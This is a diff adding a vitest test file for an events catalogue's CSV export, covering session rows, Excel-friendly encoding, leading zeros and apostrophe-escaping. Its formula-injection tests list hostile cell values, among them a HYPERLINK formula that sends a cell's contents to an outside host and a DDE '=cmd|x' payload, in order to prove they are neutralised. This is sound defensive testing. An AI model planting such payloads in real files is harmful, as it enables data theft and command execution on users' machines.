@@ -1,0 +1,265 @@
+/** Lists for a spreadsheet: read back as Papa does, and as a spreadsheet would that runs what it can. */
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, test } from 'vitest';
+import { buildCatalogue } from '../../../../src/catalogue/graph/graph.ts';
+import { apiFile, listNames } from '../../../../src/publish/data/index.ts';
+import { textCell } from '../../../../src/publish/data/text-cell.ts';
+import { readContent } from '../../../../src/reader/index.ts';
+import type { Records } from '../../../../src/schemas/index.ts';
+import { catalogueOf, eventWith, NOW, SITE } from '../../../support/catalogue.ts';
+import { SAMPLE_CITY } from '../../../support/cities.ts';
+
+type Row = Readonly<Record<string, string>>;
+function read(text: string): Row[] {
+	const { data, errors } = Papa.parse<Row>(text, { header: true, skipEmptyLines: true });
+	expect(errors).toEqual([]);
+	return data;
+}
+const options = { site: SITE, feeds: [] };
+const eventsCsv = (...events: Parameters<typeof eventWith>[0][]) =>
+	apiFile(
+		catalogueOf({ events: events.map((event, i) => eventWith({ id: `e-${i}`, ...event })) }),
+		'events.csv',
+		options,
+	);
+const single = { kind: 'single', start: '2026-12-05T08:00', end: '2026-12-05T10:00' } as const;
+
+describe('events', () => {
+	test('have a row for each session, and one while no date is known', () => {
+		const rows = read(
+			eventsCsv(
+				{ when: { kind: 'sessions', sessions: [{ start: '2026-12-01T19:00' }, { start: '2026-12-08' }] } },
+				{ when: { kind: 'announced', month: '2027-03' } },
+			),
+		);
+		expect(rows.map((row) => [row.id, row.session_id, row.session_date, row.session_time])).toEqual([
+			['e-0', 'e-0_20261201T1900', '2026-12-01', '19:00'],
+			['e-0', 'e-0_20261208', '2026-12-08', ''],
+			['e-1', '', '', ''],
+		]);
+		expect(rows.map((row) => row.announced_month)).toEqual(['', '', '2027-03']);
+	});
+	test('say ids and codes in words too', () => {
+		const [row] = read(eventsCsv({ when: single, access: { features: ['wheelchair', 'lift'] } }));
+		expect(row).toMatchObject({
+			kind: 'talk',
+			kind_name: 'Nói chuyện, tọa đàm',
+			hosts: 'bao-tang',
+			hosts_name: 'Bảo tàng Mẫu',
+			ward: 'an-cu',
+			ward_name: 'Phường An Cư',
+			topics_name: 'Di sản, văn hóa',
+			price_kind_name: 'miễn phí',
+			session_status_name: 'như đã định',
+			access: 'wheelchair | lift',
+			access_name: 'Xe lăn vào được | Thang máy',
+		});
+	});
+	test('keep lists beside each other in step', () => {
+		const [row] = read(
+			eventsCsv({
+				when: single,
+				price: { kind: 'paid', tariffs: [{ amount: 50000, for: { vi: 'Người lớn' } }, { amount: 20000 }] },
+			}),
+		);
+		expect([row?.price_tariffs_amount, row?.price_tariffs_for_vi]).toEqual(['50000 | 20000', 'Người lớn | ']);
+	});
+});
+
+describe('the file', () => {
+	const text = eventsCsv({ when: single });
+	test('begins with a byte order mark, for Excel, and ends its lines in CRLF', () => {
+		expect(text.startsWith('\uFEFFid,url,title_vi')).toBe(true);
+		expect(text.endsWith('\r\n')).toBe(true);
+		expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
+	});
+	test('is its header alone while a list is empty', () => {
+		const csv = apiFile(catalogueOf({}), 'stories.csv', options);
+		expect(csv.trimEnd().split('\r\n')).toHaveLength(1);
+		expect(csv).toContain('who_vi');
+	});
+	test('keeps the zero of a telephone number and of a ward’s code', () => {
+		expect(read(text)[0]?.booking_phone).toBe('0234 3822 425');
+		expect(read(apiFile(catalogueOf({}), 'wards.csv', options))[0]?.code).toBe("'00001");
+		const run = eventsCsv({ when: single, booking: { mode: 'required', phone: '02343822425' } });
+		expect(read(run)[0]?.booking_phone).toBe("'02343822425");
+	});
+	test('keeps ids that look like dates, and leaves dates, hours, numbers and truth as they are', () => {
+		const days = read(apiFile(catalogueOf({}), 'days.csv', options));
+		expect(days.map(({ id }) => id)).toEqual(["'23-11", 'tet-duong-lich']);
+		const [row] = read(
+			eventsCsv({
+				when: single,
+				days: ['23-11'],
+				price: { kind: 'paid', tariffs: [{ amount: 50000 }] },
+				verified: { on: '2026-11-02', by: '1975' },
+			}),
+		);
+		expect(row).toMatchObject({
+			days: "'23-11",
+			session_date: '2026-12-05',
+			session_time: '08:00',
+			session_allDay: 'false',
+			price_tariffs_amount: '50000',
+			verified_on: '2026-11-02',
+			verified_by: "'1975",
+			sources_on: '2026-10-05',
+			updated: '2026-11-02T00:00:00Z',
+		});
+	});
+});
+
+describe('no cell is a live formula', () => {
+	/** As a spreadsheet set to any of these separators would cut the file, quotes or not. */
+	const live = (text: string) =>
+		text
+			.replace(/^\uFEFF/, '')
+			.split(/[,;\t\r\n]/)
+			.map((cell) => cell.replace(/^[\s"]+/, ''))
+			.filter((cell) => /^[=+\-@＝＋－＠]/.test(cell));
+	const formulas = [
+		'=HYPERLINK("https://example.org/?"&A1;"Mời bấm")',
+		'+84 234',
+		'-1+1',
+		'@SUM(1)',
+		'＝1+1',
+		'\t=1+1',
+		'xin chào;=1+1',
+		'xin chào; =cmd|x',
+	];
+	test.each(formulas)('%j', (formula) => {
+		const csv = eventsCsv({ when: single, title: { vi: formula.trim(), en: 'A' } });
+		expect(live(csv)).toEqual([]);
+		expect(read(csv)).toHaveLength(1);
+	});
+	test('whatever the text', () => {
+		const catalogue = catalogueOf({ events: [eventWith({ when: single })] });
+		const [event] = catalogue.records.events;
+		if (!event) throw new Error('no event');
+		const nasty = fc.string({
+			unit: fc.constantFrom(
+				'=',
+				'+',
+				'-',
+				'@',
+				';',
+				'\t',
+				'\n',
+				'\r',
+				'"',
+				"'",
+				' ',
+				'a',
+				'|',
+				'\u202e',
+				'\u200f',
+				'\0',
+			),
+		});
+		const texts = fc.array(fc.oneof(nasty, fc.string({ unit: 'binary' })), { minLength: 1, maxLength: 20 });
+		fc.assert(
+			fc.property(texts, (titles) => {
+				const events = titles.map((title) => ({
+					...event,
+					title: { vi: title, en: title },
+					booking: undefined,
+				}));
+				const csv = apiFile(
+					{ ...catalogue, records: { ...catalogue.records, events } },
+					'events.csv',
+					options,
+				);
+				const rows = read(csv);
+				expect(rows.map(({ id }) => id)).toEqual(titles.map(() => 'noi-chuyen'));
+				for (const { title_vi = '' } of rows) {
+					expect(title_vi).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
+					expect(title_vi).not.toMatch(/;[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
+					expect(title_vi).not.toMatch(/\p{Cc}/u);
+				}
+			}),
+			{ numRuns: 6 },
+		);
+		// Some hundred rows of a hundred columns each: on a busy machine that takes its time.
+	}, 30_000);
+});
+
+describe('a text that a spreadsheet would take for something else', () => {
+	test.each([
+		'02343822425',
+		'00001',
+		'21-4',
+		'1.5',
+		'1,000',
+		'1900.1234',
+		'(123)',
+		'50%',
+		'1 234 567',
+		'1 1/2',
+		'2026-12-05 08:00',
+		'1e5',
+		'may-10',
+		'3 Mar 2026',
+		'8 pm',
+		'TRUE',
+		'１２',
+		'$5',
+		'+84 234',
+		'=1+1',
+		"'tis",
+	])('%j gets one apostrophe', (text) => expect(textCell(text)).toBe(`'${text}`));
+	test.each([
+		'0234 3822 425',
+		'hue-1975',
+		'mayor-3',
+		'50.000đ',
+		'6 | 7',
+		'lớp 6',
+		'Số 1',
+		'https://a.vn/1',
+		'',
+	])('%j gets none', (text) => expect(textCell(text)).toBe(text));
+	test('whatever it is, comes back from Papa by taking one off', () => {
+		const line = fc
+			.string({
+				unit: fc.constantFrom('0', '7', '.', '-', '/', ',', "'", '"', '=', ' ', 'e', 'đ', '|', ':', 'may'),
+			})
+			.map((text) => text.replace(/\s+/g, ' '));
+		fc.assert(
+			fc.property(line, (text) => {
+				const [[cell = ''] = []] = Papa.parse<string[]>(Papa.unparse([[textCell(text), 'x']]), {
+					delimiter: ',',
+				}).data;
+				expect(cell.replace(/^'/, '')).toBe(text);
+				expect(Number.isNaN(Number(cell)) || cell.trim() === '').toBe(true);
+			}),
+		);
+	});
+});
+
+test('long text comes through whole', () => {
+	const long = 'Ế'.repeat(10_000);
+	const catalogue = catalogueOf({ events: [eventWith({ when: single })] });
+	const events = catalogue.records.events.map((event) => ({ ...event, title: { vi: long } }));
+	const csv = apiFile({ ...catalogue, records: { ...catalogue.records, events } }, 'events.csv', options);
+	expect(read(csv)[0]?.title_vi).toBe(long);
+});
+
+describe('the sample city', () => {
+	const catalogue = buildCatalogue(readContent(SAMPLE_CITY).records as Records, NOW); // read: the rows below are its own
+	test.each(listNames)('%s has the same records as its JSON, and column names that stand once', (name) => {
+		// As the page on open data has it: one apostrophe at the beginning of a text is none of its own.
+		const csv = apiFile(catalogue, `${name}.csv`, options);
+		const ids = JSON.parse(apiFile(catalogue, `${name}.json`, options)).map(({ id }: { id: string }) => id);
+		expect([...new Set(read(csv).map((row) => row.id?.replace(/^'/, '')))]).toEqual(ids);
+		const names = csv.split('\r\n')[0]?.slice(1).split(',') ?? [];
+		expect(new Set(names).size).toBe(names.length);
+		for (const column of names) expect(column).toMatch(/^[A-Za-z0-9_]+$/);
+	});
+	test('places lie in the columns that one looks for', () => {
+		const rows = read(apiFile(catalogue, 'places.csv', options));
+		const place = catalogue.records.places.find(({ geo }) => geo);
+		const row = rows.find(({ id }) => id === place?.id);
+		expect(Number(row?.geo_lat)).toBe(place?.geo?.lat);
+	});
+});
